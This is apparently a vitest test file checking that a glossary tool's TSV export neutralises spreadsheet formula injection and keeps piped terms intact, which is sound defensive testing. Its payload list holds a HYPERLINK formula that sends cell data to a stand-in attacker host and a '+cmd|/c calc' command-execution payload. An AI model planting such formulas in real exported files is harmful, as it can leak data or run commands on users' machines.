/**
 * Issue #16 item 6: the OmegaT TSV export wrote formula payloads raw (a spreadsheet that opens the file
 * runs them), and a `|` inside a term came back as two terms. Export → file → import, through the API.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'

import { afterEach, beforeEach, describe, expect, it } from 'vitest'

import { openTestApp } from '../../helpers/test-app'
import type { TestApp } from './exchange-helpers'

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|/c calc',
  '@SUM(1)',
  '-1+1',
  "'=already quoted"
]
const PIPED = 'either|or clause'

let source: TestApp
let target: TestApp

beforeEach(async () => {
  source = await openTestApp('source.sqlite')
  target = await openTestApp('target.sqlite')
})
afterEach(() => {
  source.close()
  target.close()
})

describe('TSV export and import (#16 item 6)', () => {
  it('neutralises formulas as the CSV export does and gives every term back as it was', async () => {
    const pairs: Array<[string, string]> = [
      ...PAYLOADS.map((p, i): [string, string] => [`${p} ${i}`, `公式${i}`]),
      [PIPED, '或者|条款'],
      ['plain term', '普通术语']
    ]
    for (const [en, zh] of pairs) {
      await source.call('termbase/save', {
        terms: [
          { lang: 'en', text: en, status: 'preferred', pos: '', usageNote: '' },
          { lang: 'zh-CN', text: zh, status: 'preferred', pos: '', usageNote: '' }
        ]
      })
    }
    const path = join(source.home.dir, 'glossary.tab')
    await source.call('exchange/export', { format: 'tsv', path })
    const lines = readFileSync(path, 'utf8').split('\r\n').filter(Boolean)
    expect(lines).toHaveLength(pairs.length)
    // No line may start a cell with a formula character: each such cell is behind an apostrophe.
    for (const line of lines) {
      for (const cell of line.split('\t')) expect(cell).not.toMatch(/^[=+\-@]/)
    }
    expect(lines).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click") 0\t公式0`)
    expect(lines).toContain("'+cmd|/c calc 1\t公式1")
    expect(lines).toContain("''=already quoted 4\t公式4")
    expect(lines).toContain(`${PIPED}\t或者|条款`)

    const report = await target.call('exchange/import', { path })
    expect(report).toMatchObject({ new: pairs.length, rejected: 0, conflicting: 0 })
    const rows = target.app.workspace.db
      .prepare(
        `SELECT group_concat(lang || '=' || text, ' / ') AS terms FROM terms GROUP BY concept_id ORDER BY concept_id`
      )
      .all() as { terms: string }[]
    expect(rows.map((r) => r.terms)).toEqual(pairs.map(([en, zh]) => `en=${en} / zh-CN=${zh}`))
  })
})
